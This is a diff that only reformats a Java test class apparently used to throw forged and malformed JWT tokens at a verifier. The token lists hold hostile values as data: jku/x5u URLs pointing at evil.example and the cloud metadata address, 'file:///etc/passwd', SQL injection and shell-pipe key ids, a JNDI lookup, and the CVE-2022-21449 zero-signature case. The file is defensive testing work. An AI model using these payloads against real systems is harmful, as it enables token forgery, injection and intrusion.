@@ -105,7 +105,8 @@ final class Forgery {
         for (String more : List.of("", ",\"jwk\":" + jwk, ",\"jku\":\"https://evil.example/jwks\"",
                 ",\"jku\":\"" + Lintel.server().address() + "/.well-known/jwks\"", ",\"jku\":\"http://127.0.0.1:1/\"",
                 ",\"jku\":\"file:///etc/passwd\"", ",\"x5u\":\"https://evil.example/cert\"", ",\"x5u\":\"http://169.254.169.254/\"",
-                ",\"x5c\":[\"MIIB\"]", ",\"x5t\":\"" + kid + "\"", ",\"x5t#S256\":\"x\"", ",\"crit\":[\"exp\"]", ",\"crit\":[\"b64\"],\"b64\":false",
+                ",\"x5c\":[\"MIIB\"]", ",\"x5t\":\"" + kid + "\"", ",\"x5t#S256\":\"x\"", ",\"crit\":[\"exp\"]",
+                ",\"crit\":[\"b64\"],\"b64\":false",
                 ",\"crit\":[]", ",\"crit\":\"x\"", ",\"cty\":\"JWT\"")) {
             tokens.put("the forger's key" + more, signed("SHA256withRSA", header("\"RS256\"", quoted(kid), more)));
         }
@@ -117,7 +118,8 @@ final class Forgery {
 
     private void kids(Map<String, String> tokens) {
         for (String odd : List.of("\"../../../../../../dev/null\"", "\"/dev/null\"", "\"file:///dev/null\"", "\"x' UNION SELECT 'x\"",
-                "\"x'; DROP TABLE keys; --\"", "\"| touch /tmp/x\"", "\"${jndi:ldap://evil.example/x}\"", "\"\"", "\"\\u0000\"", "null", "1",
+                "\"x'; DROP TABLE keys; --\"", "\"| touch /tmp/x\"", "\"${jndi:ldap://evil.example/x}\"", "\"\"", "\"\\u0000\"", "null",
+                "1",
                 "1e999", "[]", "[\"" + kid + "\"]", "{\"a\":1}", "\"" + kid + " \"", "\"" + kid.toUpperCase() + "x\"",
                 "\"" + "k".repeat(5_000) + "\"")) {
             String name = odd.length() > 60 ? "a long one" : odd;
@@ -128,8 +130,10 @@ final class Forgery {
 
     private void signatures(Map<String, String> tokens) {
         tokens.put("another payload", header + "." + encode(text(payload).replace("alice", "bob00")) + "." + signature);
-        tokens.put("another expiry", header + "." + encode(text(payload).replaceFirst("\"exp\":\\d+", "\"exp\":9999999999")) + "." + signature);
-        tokens.put("huge numbers", header + "." + encode(text(payload).replaceFirst("\"exp\":\\d+", "\"exp\":1e999999999")) + "." + signature);
+        tokens.put("another expiry",
+                header + "." + encode(text(payload).replaceFirst("\"exp\":\\d+", "\"exp\":9999999999")) + "." + signature);
+        tokens.put("huge numbers",
+                header + "." + encode(text(payload).replaceFirst("\"exp\":\\d+", "\"exp\":1e999999999")) + "." + signature);
         tokens.put("sub twice", header + "." + encode(text(payload).replaceFirst("\\{", "{\"sub\":\"bob-1\",")) + "." + signature);
         tokens.put("no signature", header + "." + payload + ".");
         tokens.put("two parts", header + "." + payload);
@@ -139,12 +143,14 @@ final class Forgery {
         tokens.put("a signature of zeros", header + "." + payload + "." + "A".repeat(signature.length()));
         tokens.put("a signature of the header", header + "." + payload + "." + header);
         tokens.put("another header", encode(text(header).replaceFirst("\\{", "{\"x\":1,")) + "." + payload + "." + signature);
-        tokens.put("another typ", encode(text(header).replace(typ, typ.equals("JWT") ? "at+jwt" : "JWT")) + "." + payload + "." + signature);
+        tokens.put("another typ",
+                encode(text(header).replace(typ, typ.equals("JWT") ? "at+jwt" : "JWT")) + "." + payload + "." + signature);
         tokens.put("no header", "." + payload + "." + signature);
         tokens.put("no payload", header + ".." + signature);
         tokens.put("dots", "..");
         for (String alg : List.of("PS256", "RS384", "RS512", "ES256", "EdDSA", "rs256", "HS256", "ML-DSA-65")) {
-            tokens.put("the genuine signature as " + alg, encode(header("\"" + alg + "\"", quoted(kid), "")) + "." + payload + "." + signature);
+            tokens.put("the genuine signature as " + alg,
+                    encode(header("\"" + alg + "\"", quoted(kid), "")) + "." + payload + "." + signature);
         }
         // "psychic signatures" (CVE-2022-21449)
         for (String ec : List.of(kid, kidOf("ES256"))) {
@@ -157,7 +163,8 @@ final class Forgery {
 
     private void encrypted(Map<String, String> tokens) {
         for (String head : List.of("{\"alg\":\"PBES2-HS512+A256KW\",\"enc\":\"A256GCM\",\"p2c\":2147483647,\"p2s\":\"AAAAAAAAAAA\"}",
-                "{\"alg\":\"dir\",\"enc\":\"A128CBC-HS256\",\"zip\":\"DEF\"}", "{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A256GCM\",\"kid\":\"" + kid + "\"}",
+                "{\"alg\":\"dir\",\"enc\":\"A128CBC-HS256\",\"zip\":\"DEF\"}",
+                "{\"alg\":\"RSA-OAEP-256\",\"enc\":\"A256GCM\",\"kid\":\"" + kid + "\"}",
                 "{\"alg\":\"none\",\"enc\":\"none\"}")) {
             tokens.put("encrypted " + head, encode(head) + ".AAAA.AAAA.AAAA.AAAA");
             tokens.put("encrypted, without parts " + head, encode(head) + "....");
@@ -173,17 +180,22 @@ final class Forgery {
         tokens.put("a padded signature", header + "." + payload + "." + signature + "==");
         tokens.put("a padded payload", header + "." + payload + "=." + signature);
         tokens.put("a blank in the payload", header + "." + payload.substring(0, 4) + " " + payload.substring(4) + "." + signature);
-        tokens.put("a header with depth", encode(header("\"RS256\"", quoted(kid), ",\"x\":" + "[".repeat(10_000) + "]".repeat(10_000))) + "."
-                + payload + "." + signature);
+        tokens.put("a header with depth",
+                encode(header("\"RS256\"", quoted(kid), ",\"x\":" + "[".repeat(10_000) + "]".repeat(10_000))) + "."
+                        + payload + "." + signature);
         tokens.put("a header that never ends", encode("{\"alg\":\"RS256\",\"x\":" + "[".repeat(10_000)) + "." + payload + "." + signature);
-        tokens.put("a payload with depth", header + "." + encode("{\"x\":" + "{\"x\":".repeat(5_000) + "1" + "}".repeat(5_001)) + "." + signature);
-        tokens.put("a header with a huge number", encode(header("\"RS256\"", quoted(kid), ",\"x\":" + "9".repeat(20_000))) + "." + payload + "."
-                + signature);
+        tokens.put("a payload with depth",
+                header + "." + encode("{\"x\":" + "{\"x\":".repeat(5_000) + "1" + "}".repeat(5_001)) + "." + signature);
+        tokens.put("a header with a huge number",
+                encode(header("\"RS256\"", quoted(kid), ",\"x\":" + "9".repeat(20_000))) + "." + payload + "."
+                        + signature);
         tokens.put("a header that is no object", encode("[]") + "." + payload + "." + signature);
         tokens.put("a header that is no JSON", encode("alg=RS256") + "." + payload + "." + signature);
-        tokens.put("a header that is no UTF-8", BASE64URL.encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe}) + "." + payload + "." + signature);
+        tokens.put("a header that is no UTF-8",
+                BASE64URL.encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe}) + "." + payload + "." + signature);
         tokens.put("longer than any", header + "." + payload + "A".repeat(60_000) + "." + signature);
-        tokens.put("the JSON serialization", "{\"protected\":\"" + header + "\",\"payload\":\"" + payload + "\",\"signature\":\"" + signature + "\"}");
+        tokens.put("the JSON serialization",
+                "{\"protected\":\"" + header + "\",\"payload\":\"" + payload + "\",\"signature\":\"" + signature + "\"}");
     }
 
     private String header(String alg, String kidValue, String more) {
